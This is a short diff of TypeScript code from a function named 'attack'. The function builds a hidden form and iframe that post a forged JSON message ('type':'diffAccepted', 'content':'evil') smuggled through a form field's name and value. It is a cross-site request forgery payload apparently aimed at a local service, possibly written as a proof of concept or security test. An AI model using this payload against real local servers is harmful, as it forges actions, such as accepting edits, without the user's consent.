@@ -150,7 +150,7 @@ async function attack(bases: readonly string[]): Promise<string[]> {
     const form = document.createElement("form");
     Object.assign(form, { method: "post", action: address, enctype, target: frame.name });
     const input = document.createElement("input");
-    Object.assign(input, { name: '{"type":"accept","id":"1","text":"evil","x":"', value: '"}' });
+    Object.assign(input, { name: '{"type":"diffAccepted","id":"1","content":"evil","x":"', value: '"}' });
     form.append(input);
     document.body.append(frame, form);
     const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
